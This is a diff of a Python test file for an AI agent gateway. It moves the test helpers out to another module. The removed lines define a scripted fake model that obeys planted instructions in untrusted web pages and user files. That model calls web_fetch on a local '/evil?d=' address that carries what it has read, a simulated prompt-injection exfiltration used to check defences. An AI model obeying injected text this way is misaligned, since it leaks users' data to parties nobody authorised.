@@ -8,12 +8,9 @@ from functools import partial
 from pathlib import Path
 
 from agent_core.clock import SystemClock
-from agent_core.context.compaction.summary import FACTS
 from agent_core.loop.limits import LoopLimits
 from agent_core.mcp.servers import McpServers
-from agent_core.messages import JsonObject, ToolResultMessage, UserMessage
 from agent_core.models.audio import AudioServer
-from agent_core.models.llm import LlmRequest
 from agent_core.models.scripted import Turn, calls
 from agent_core.sandbox.process import ProcessSandbox
 from agent_core.skills.library import SkillLibrary
@@ -35,18 +32,12 @@ from tests.agent_core.sandbox.running import launcher_called
 from tests.agent_core.web.site import Site
 from tests.emulators.audio import KEY, AudioEmulator, recording
 from tests.gateway.bot import Bot, BotOptions
+from tests.gateway.copyist import EVIL, MARK, REPORT, TASK, WEAK, Copyist, Wanted
 from tests.gateway.jobs.kit import a_job
 from tests.gateway.sourced import files_in
 from tests.gateway.tasking import rows
 from tests.process import until
 
-MARK = "kestrel4471"
-"""Word that occurs only in the untrusted text, which also orders to open an address that nobody gave."""
-WEAK = "heron9920"
-"""The same in files that the user sends."""
-EVIL = "/evil?d="
-"""The address, with what the model knows."""
-PLAIN = "otter"
 PAGES = {
     "/page": f"<title>News</title><p>Falcons: {MARK}.</p>",
     "/index": '<title>Index</title><p><a href="/page">Falcons</a></p>',
@@ -54,13 +45,9 @@ PAGES = {
 WITHIN = 60.0
 LONG = 600
 """Length of a result that is shown in full."""
-TASK, REPORT = "Do this job:", "Report on this chat."
 CHANGES = ("pause", "resume")
 OURS = ("/approve ", "/cron confirm ")
 REFUSAL = "/deny "
-
-Wanted = tuple[str, JsonObject | str]
-"""A tool call."""
 
 OWN_FILES = ("own file", "own recording")
 """What the user sends, which may hold the words of others."""
@@ -106,39 +93,6 @@ class Way:
     what: str
     anew: bool = False
     """True if it happens in a new conversation."""
-
-
-class Copyist:
-    """Scripted turn that makes the planned calls, with untrusted text once it has read some.
-
-    In each run it obeys that text first, and opens the address that is composed of what it knows.
-    """
-
-    def __init__(self, site: Site) -> None:
-        self.plan: list[Callable[[str], Turn]] = []
-        self.obeyed = 0
-        self._site = site
-
-    def __call__(self, request: LlmRequest) -> Turn:
-        told = "\n".join([request.system, *(message.model_dump_json() for message in request.messages)])
-        word = "-".join(mark for mark in (MARK, WEAK) if mark in told) or PLAIN
-        first = request.messages[0].model_dump_json() if request.messages else ""
-        if not request.tools:  # a summary
-            return f"## Goal\nGo on.\n\n## Progress\nIt is about {word}.\n\n{FACTS}\n- {word} is a bird"
-        if word != PLAIN and not self._has_obeyed(request):
-            self.obeyed += 1
-            return calls(("web_fetch", {"url": f"{self._site.url}{EVIL}{word}"}))
-        if TASK in first or REPORT in first:
-            looked = any(isinstance(message, ToolResultMessage) for message in request.messages)
-            own: list[Wanted] = [("read_history", {})] if REPORT in first else []
-            return f"It says {word}." if looked else calls(*own, ("list_dir", {}), ("grep", {"pattern": "."}))
-        if self.plan:
-            return self.plan.pop(0)(word)
-        return f"It is about {word}."
-
-    def _has_obeyed(self, request: LlmRequest) -> bool:
-        asked = max((at for at, each in enumerate(request.messages) if isinstance(each, UserMessage)), default=0)
-        return any(EVIL in each.model_dump_json() for each in request.messages[asked:])
 
 
 class Scene:
